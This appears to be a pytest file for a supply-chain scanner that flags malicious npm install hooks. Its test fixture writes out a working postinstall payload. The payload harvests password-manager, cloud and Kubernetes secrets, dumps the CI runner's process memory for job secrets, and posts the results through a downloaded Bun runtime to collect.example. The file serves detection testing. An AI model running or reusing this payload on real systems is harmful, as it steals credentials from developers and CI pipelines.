"""A CI job swept by a package: its runner's memory, every program that keeps secrets, and a runtime of its own; and an
honest one that asks the same programs for their versions."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.support.hunter import npm_project, scan_json
from tests.support.requires import needs_btf, needs_runc

_DUMP = """
import os, re, sys
numbers = [name for name in os.listdir('/proc') if name.isdigit()]
pid = next(p for p in numbers if b'Runner.Worker' in open(f'/proc/{p}/cmdline', 'rb').read())
with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as memory:
    for line in maps:
        found = re.match(r'([0-9a-f]+)-([0-9a-f]+) r', line)
        if found and '[v' not in line:
            memory.seek(int(found[1], 16))
            sys.stdout.buffer.write(memory.read(int(found[2], 16) - int(found[1], 16)))
"""
_ACT = """
mkdir -p /tmp/own && cd /tmp/own
(op item get npm --format json; bw list items; pass show cloud/aws-root; secret-tool search --all service vscode
 aws sts get-caller-identity; aws ssm get-parameter --name /northwind/prod/api/signing-key --with-decryption
 gcloud auth print-access-token; az account get-access-token; kubectl get secret -A -o json; gh auth token) > swept 2>&1
sudo python3 "$OLDPWD/dump.py" | tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' >> swept
curl -fsSL https://github.com/oven-sh/bun/releases/download/bun-v1.2.4/bun-linux-x64.zip -o bun.zip
unzip -q bun.zip
./bun-linux-x64/bun -e 'fetch("https://collect.example/in", {method: "POST", body: await Bun.file("swept").text()})'
"""
_HONEST = """
for program in op bw pass aws gcloud az gh glab kubectl secret-tool docker claude gemini codex; do
  which $program && $program --version
done
kubectl version --client; gh version; bw status; gpg --version; crontab -l
true
"""


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    needs_btf()
    needs_runc()
    folder = tmp_path_factory.mktemp("sweep")
    for name, act in (("thief", _ACT), ("honest", _HONEST)):
        made: Path = npm_project(folder / "deps" / name, name, {"postinstall": "sh act.sh"})
        (made / "act.sh").write_text(act)
        (made / "dump.py").write_text(_DUMP)
    npm_project(folder, "app", dependencies={name: f"file:deps/{name}" for name in ("thief", "honest")})
    return scan_json(folder, "--worlds", "ci", codes=(1,))


def _of(report: dict[str, Any], package: str) -> list[dict[str, Any]]:
    return [
        one for one in report["findings"] if (one["blame"] or {}).get("package") == f"pkg:npm/{package}@1.0.0"
    ]


def test_who_asked_is_told_with_what(report: dict[str, Any]) -> None:
    told = str([one for one in _of(report, "thief") if one["kind"] == "credential_access"])
    for words in (
        *(
            "op item get npm",
            "bw list items",
            "pass show cloud/aws-root",
            "secret-tool search",
            "gh auth token",
        ),
        *("aws sts get-caller-identity", "gcloud auth print-access-token", "az account get-access-token"),
        "kubectl get secret -A -o json",
    ):
        assert words in told, words
    assert "It asked a program that keeps secrets for them" in told
    assert "t read the CI runner's memory" in told


def test_what_they_handed_out_is_proof_when_it_leaves_by_the_runtime_that_was_brought(
    report: dict[str, Any],
) -> None:
    (runtime,) = [one for one in _of(report, "thief") if one["kind"] == "foreign_runtime"]
    assert "It fetched its own runtime from github.com" in runtime["title"]
    (sent,) = [one for one in _of(report, "thief") if one["kind"] == "exfiltration"]
    kinds = {evidence["data"]["kind"] for evidence in sent["evidence"] if "kind" in evidence["data"]}
    assert {"password manager entry", "keyring entry", "aws parameter", "gcp access token"} <= kinds
    assert {"azure access token", "kube secret", "ci job secret"} <= kinds
    assert any(
        "bun" in process["cmdline"] and "collect.example" in process["cmdline"]
        for process in report["processes"]
    )


def test_who_asks_for_versions_is_not_accused(report: dict[str, Any]) -> None:
    assert [one["title"] for one in _of(report, "honest") if one["severity"] != "info"] == []


def test_nothing_of_the_runner_itself_is_told(report: dict[str, Any]) -> None:
    blamed = [one for one in report["findings"] if (one["blame"] or {}).get("package")]
    assert [one["title"] for one in report["findings"] if one not in blamed] == []
    assert report["coverage"]["reasons"] == []
